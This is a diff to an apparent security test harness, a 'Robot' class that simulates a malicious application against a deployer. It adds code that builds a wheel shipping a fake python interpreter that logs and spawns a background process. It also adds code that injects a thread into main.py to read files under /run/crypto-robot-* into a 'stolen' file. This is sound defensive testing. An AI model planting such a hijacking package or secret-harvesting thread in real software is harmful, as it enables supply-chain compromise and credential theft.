@@ -221,6 +221,55 @@ final class Robot {
         "Use a package that was taken over");
   }
 
+  /** One of its packages brings a program {@code python} of its own, which records each start. */
+  String bringsItsOwnInterpreter() {
+    String version = "1." + ++changes;
+    String requirements = read("requirements.txt").replaceAll("(?s)--find-links.*", "");
+    write("requirements.txt", requirements + "--find-links wheels\nown-python==" + version + "\n");
+    return changedBy(
+        """
+        name=own_python-%1$s
+        rm -rf wheels $name.* && mkdir -p wheels $name.data/scripts $name.dist-info
+        cat >$name.data/scripts/python <<'END'
+        #!/bin/sh
+        id -un >>/tmp/own-python-ran 2>/dev/null
+        cd / && sleep 600 >/dev/null 2>&1 </dev/null &
+        exec "${0%%/*}/python3.11" "$@"
+        END
+        chmod +x $name.data/scripts/python
+        printf 'Metadata-Version: 2.1\nName: own-python\nVersion: %1$s\n' >$name.dist-info/METADATA
+        printf 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n' >$name.dist-info/WHEEL
+        : >$name.dist-info/RECORD
+        python3 -m zipfile -c wheels/$name-py3-none-any.whl $name.data $name.dist-info
+        rm -r $name.data $name.dist-info
+        """
+            .formatted(version),
+        "Bring an interpreter");
+  }
+
+  /** The robot reads for as long as it runs whatever it can of the steps of the deployer. */
+  String looksForTheLogin() {
+    insertBefore(
+        "main.py",
+        "    stopping = threading.Event()",
+        """
+            import glob
+            def look():
+                while True:
+                    # A folder that cannot be listed may have one with a name that is known.
+                    for path in glob.glob("/run/crypto-robot-*/git/*") + glob.glob("/run/crypto-robot-*/**", recursive=True):
+                        try:
+                            with open(path, "rb") as file:
+                                content = file.read()
+                        except OSError:
+                            continue
+                        with open("data/stolen", "ab") as stolen:
+                            stolen.write(path.encode() + b" " + content)
+            threading.Thread(target=look, daemon=True).start()
+        """);
+    return commit("Look for the login");
+  }
+
   /** The robot prints a key in several forms, and ends. */
   String printsItsSecrets() {
     insertBefore(
